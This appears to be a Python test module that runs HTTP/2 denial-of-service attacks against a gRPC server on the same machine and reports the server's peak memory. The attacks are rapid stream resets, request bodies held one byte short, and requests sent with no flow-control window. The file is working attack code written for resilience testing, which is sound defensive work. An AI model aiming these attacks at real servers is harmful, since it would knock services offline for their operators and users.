"""Attacks from one host that are valid HTTP/2, and the memory that the server uses under them. Loopback only.

`python -m tests.adversary.attacks PORT PID [--key KEY --app APP]` runs each attack in its long form against a server
on this machine and tells the most memory that the process has held so far.
"""

from __future__ import annotations

import argparse
import asyncio
import struct
import sys
from contextlib import AsyncExitStack, suppress
from pathlib import Path

from h2.settings import SettingCodes
from hpack import Encoder

from appprofile.v1 import profile_service_pb2
from tests.support.http2 import PREFACE, Http2

HOST = "127.0.0.1"
HEARTBEAT = "/appprofile.v1.ProfileService/Heartbeat"
LIST = "/appprofile.v1.ProfileService/ListProfiles"
CHECK = "/grpc.health.v1.Health/Check"
ALMOST = 4 * 1024 * 1024 - 1
"""The largest message, short of its last byte."""
_CANCEL = struct.pack(">I", 8)
_WINDOW = 65_535
"""What HTTP/2 lets a caller send on a stream until the server gives more."""


def peak(pid: int) -> int:
    """The most memory that the process has held so far, in MB."""
    status = Path(f"/proc/{pid}/status").read_text()
    [line] = [line for line in status.splitlines() if line.startswith("VmHWM:")]
    return int(line.split()[1]) // 1024


async def reset_streams(port: int, number: int) -> None:
    """Opens streams on one connection and resets each at once; as quickly as the server reads."""
    reader, writer = await asyncio.open_connection(HOST, port)
    headers = [(":method", "POST"), (":scheme", "http"), (":path", HEARTBEAT), (":authority", "localhost")]
    block = Encoder().encode([*headers, ("content-type", "application/grpc"), ("te", "trailers")])
    head = len(block).to_bytes(3) + b"\x01\x04"  # HEADERS, END_HEADERS
    reset = (4).to_bytes(3) + b"\x03\x00"  # RST_STREAM
    answers = asyncio.create_task(_drop(reader))
    with suppress(OSError):  # it may cut us off, which is an end, too
        writer.write(PREFACE)
        for first in range(0, number, 100):
            ids = (struct.pack(">I", 2 * n + 1) for n in range(first, min(first + 100, number)))
            writer.write(b"".join(head + i + block + reset + i + _CANCEL for i in ids))
            await writer.drain()
    answers.cancel()
    writer.transport.abort()


async def _drop(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(2**16):
            pass


async def withhold_last_bytes(
    port: int, streams: int, path: str, seconds: float, metadata: tuple[tuple[str, str], ...] = ()
) -> None:
    """Sends bodies short of their last byte on as many streams, as far as the server takes them, and waits."""
    body = b"\0" + (ALMOST + 1).to_bytes(4) + bytes(ALMOST)
    async with await Http2.connect(HOST, port) as client:
        started = [await client.begin(path, metadata) for _ in range(streams)]
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await asyncio.gather(*(client.send(stream, body) for stream in started))
                await asyncio.sleep(seconds)


async def take_no_answers(port: int, key: str, app_id: str, calls: int, seconds: float) -> int:
    """Requests pages without opening a flow-control window; returns how many calls were refused."""
    request = profile_service_pb2.ListProfilesRequest(app_id=app_id, page_size=1000).SerializeToString()
    body = b"\0" + len(request).to_bytes(4) + request
    refused = 0
    async with AsyncExitStack() as stack:
        for _ in range(0, calls, 100):
            client = await Http2.connect(HOST, port, {SettingCodes.INITIAL_WINDOW_SIZE: 0})
            await stack.enter_async_context(client)
            started = [await client.begin(LIST, [("x-api-key", key)]) for _ in range(100)]
            for stream in started:
                await client.send(stream, body, end=True)
            with suppress(TimeoutError):
                await client.heard(lambda: all(map(client.status, started)), seconds)  # noqa: B023 - called here only
            refused += sum(client.status(stream) == "8" for stream in started)
    return refused


async def idle(port: int, number: int) -> AsyncExitStack:
    """Opens connections that say that they speak HTTP/2, and nothing more; close the stack to leave."""
    stack = AsyncExitStack()
    for _ in range(number):
        _, writer = await asyncio.open_connection(HOST, port)
        writer.write(PREFACE)
        stack.callback(_leave, writer)
    return stack


def _leave(writer: asyncio.StreamWriter) -> None:
    writer.transport.abort()


async def _main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument("--key", default="")
    parser.add_argument("--app", default="demo")
    asked = parser.parse_args()

    def tell(what: str) -> None:
        sys.stdout.write(f"{what}: at most {peak(asked.pid)} MB\n")

    tell("before")
    await reset_streams(asked.port, 2_000_000)
    tell("2,000,000 streams reset")
    for path in (HEARTBEAT, CHECK):
        await withhold_last_bytes(asked.port, 90, path, 20)
        tell(f"90 bodies short of a byte, {path}")
    if asked.key:
        await take_no_answers(asked.port, asked.key, asked.app, 600, 20)
        tell("600 answers that nobody takes")


if __name__ == "__main__":
    asyncio.run(_main())
